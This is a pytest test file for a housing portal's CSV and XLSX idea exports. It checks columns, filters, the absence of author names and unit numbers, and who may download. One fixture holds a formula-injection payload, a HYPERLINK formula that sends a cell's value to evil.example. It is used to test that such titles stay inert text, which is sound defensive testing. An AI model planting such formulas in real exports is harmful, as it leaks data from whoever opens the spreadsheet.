"""The filtered idea list as CSV and XLSX, for the property staff and admins only.

An export leaves the portal: it never holds an author's name or unit.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import AnonymousUser
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from covenant import middleware
from proposals.ideas import services as ideas_services
from proposals.models import Category, Idea, Moderation
from proposals.moderation import services as moderation_services
from proposals.triage import services as triage_services
from tests.proposals.factories import CommentFactory, IdeaFactory

CSV = reverse("proposals:idea_export_csv")
XLSX = reverse("proposals:idea_export_xlsx")
HEADERS = [
    "Number",
    "Title",
    "Category",
    "Status",
    "Building",
    "Supports",
    "Comments",
    "Submitted at",
    "Last status change",
]


def page_language() -> str:
    """The language the middleware serves an anonymous request in (patched by conftest)."""
    request = RequestFactory().get("/")
    request.user = AnonymousUser()
    return middleware.language_for(request)


def shown(msgid: str, context: str | None = None) -> str:
    """A word as the export writes it, in the language the portal is served in."""
    with translation.override(page_language()):
        return translation.pgettext(context, msgid) if context else translation.gettext(msgid)


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read the Chinese as UTF-8"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def read_xlsx(response) -> list[list]:
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def download(client, user, url, query=None):
    client.force_login(user)
    return client.get(url, query or {})


def read(fmt, response):
    return read_csv(response) if fmt == "csv" else read_xlsx(response)


URLS = {"csv": CSV, "xlsx": XLSX}


@pytest.fixture
def exported(resident, neighbour, unit_3_1201, unit_5_0802, steward, category):
    """An accepted idea from building 3 with supports and a comment, and one from building 5."""
    idea = IdeaFactory(
        author=resident,
        household=unit_3_1201,
        category=category,
        title="地下车库照明不足",
        created_at=timezone.now() - timedelta(days=3),
    )
    ideas_services.set_support(idea=idea, user=neighbour, supported=True)
    ideas_services.set_support(idea=idea, user=steward, supported=True)
    CommentFactory(idea=idea, author=neighbour)
    triage_services.change_status(
        idea=idea, actor=steward, to_status="accepted", public_reply="好的"
    )
    other = IdeaFactory(
        author=neighbour,
        household=unit_5_0802,
        category=Category.objects.get(slug="greenery"),
        title="五栋门口多种树",
    )
    idea.refresh_from_db()
    return {"idea": idea, "other": other}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_has_the_agreed_columns(client, steward, exported, fmt):
    rows = read(fmt, download(client, steward, URLS[fmt]))
    assert rows[0] == [shown(header) for header in HEADERS]
    assert len(rows) == 3


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_each_row_holds_the_ideas_counts_and_dates(client, steward, exported, fmt):
    idea = exported["idea"]
    rows = read(fmt, download(client, steward, URLS[fmt]))
    row = next(row for row in rows[1:] if str(row[0]) == str(idea.pk))
    assert [str(value) for value in row[:7]] == [
        str(idea.pk),
        "地下车库照明不足",
        Category.objects.get(slug="parking").name_en
        if page_language() == "en"
        else Category.objects.get(slug="parking").name,
        shown("Accepted", "idea status"),
        "3",
        "2",
        "1",
    ]
    created = timezone.localtime(idea.created_at).strftime("%Y-%m-%d %H:%M:%S")
    changed = timezone.localtime(idea.status_changed_at).strftime("%Y-%m-%d %H:%M:%S")
    assert str(row[7])[:19] == created
    assert str(row[8])[:19] == changed
    assert row[7] != row[8]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"status": "accepted"}, {"地下车库照明不足"}),
        ({"building": "5"}, {"五栋门口多种树"}),
        ({"category": "greenery"}, {"五栋门口多种树"}),
        ({"age": "7"}, set()),
        ({}, {"地下车库照明不足", "五栋门口多种树"}),
        ({"status": "bogus"}, {"地下车库照明不足", "五栋门口多种树"}),
    ],
    ids=str,
)
def test_the_export_holds_only_the_filtered_rows(client, steward, exported, fmt, query, expected):
    rows = read(fmt, download(client, steward, URLS[fmt], query))
    assert {row[1] for row in rows[1:]} == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_merged_duplicate_is_not_exported(client, steward, exported, fmt, admin_user):
    moderation_services.mark_duplicate(
        idea=exported["other"], original=exported["idea"], actor=admin_user
    )
    rows = read(fmt, download(client, steward, URLS[fmt]))
    assert [row[1] for row in rows[1:]] == ["地下车库照明不足"]


# --- No names, no units ------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_never_names_an_author_or_their_unit(
    client, steward, exported, hidden_name_idea, unit_3_1201, fmt
):
    recorded = IdeaFactory(
        author=steward,
        household=unit_3_1201,
        category=hidden_name_idea.category,
        recorded_by=steward,
        resident_name="刘奶奶",
    )
    response = download(client, steward, URLS[fmt])
    rows = read(fmt, response)
    assert {row[1] for row in rows[1:]} >= {hidden_name_idea.title, recorded.title}
    cells = [str(value) for row in rows for value in row if value is not None]
    for secret in [
        "王阿姨",  # the resident, author of the hidden-name idea
        "李叔",  # the neighbour
        "物业管家小周",  # the steward who recorded an idea
        "刘奶奶",  # the resident it was recorded for
        "resident@example.org",
    ]:
        assert not any(secret in cell for cell in cells), secret
    # No unit number in any text column (title, category, status, building).
    for row in rows[1:]:
        assert not any("1201" in str(value) or "0802" in str(value) for value in row[1:5])


# --- Formulas stay text ----------------------------------------------------------------


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'


@pytest.fixture
def formula_idea(resident, unit_3_1201, category):
    return IdeaFactory(
        author=resident, household=unit_3_1201, category=category, title=FORMULA_TITLE
    )


def test_a_formula_in_a_title_is_neutralised_in_the_csv(client, steward, formula_idea):
    rows = read_csv(download(client, steward, CSV))
    title = rows[1][1]
    assert not title.startswith(("=", "+", "-", "@"))
    assert title == "'" + FORMULA_TITLE


def test_a_formula_in_a_title_stays_text_in_the_xlsx(client, steward, formula_idea):
    response = download(client, steward, XLSX)
    cells = xlsx_cells(response)
    assert not any(cell.data_type == "f" for cell in cells)
    titles = [cell.value for cell in cells if cell.column == 2 and cell.row > 1]
    assert titles == ["'" + FORMULA_TITLE]


@pytest.mark.parametrize("prefix", ["+", "-", "@"])
def test_every_formula_prefix_is_neutralised(client, steward, resident, unit_3_1201, prefix):
    IdeaFactory(author=resident, household=unit_3_1201, title=f"{prefix}1+1 楼道灯")
    rows = read_csv(download(client, steward, CSV))
    assert rows[1][1] == f"'{prefix}1+1 楼道灯"


# --- Who may export ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "name", ["newcomer", "resident", "neighbour", "captain_3", "captain_5", "party_member"]
)
def test_residents_and_captains_cannot_export(client, persona, name, exported, fmt):
    client.force_login(persona(name))
    assert client.get(URLS[fmt]).status_code == 403


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", ["steward", "admin_user"])
def test_the_staff_and_admins_export(client, persona, name, exported, fmt):
    rows = read(fmt, download(client, persona(name), URLS[fmt]))
    assert len(rows) == 3


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_visitors_are_sent_to_sign_in(client, db, fmt):
    response = client.get(URLS[fmt])
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("state", [Moderation.HIDDEN, Moderation.AUTO_HIDDEN, Moderation.PENDING])
def test_an_idea_hidden_or_waiting_leaves_the_portal_in_no_export(
    client, steward, exported, fmt, state
):
    Idea.objects.filter(pk=exported["other"].pk).update(moderation=state)
    rows = read(fmt, download(client, steward, URLS[fmt]))
    assert [row[1] for row in rows[1:]] == ["地下车库照明不足"]
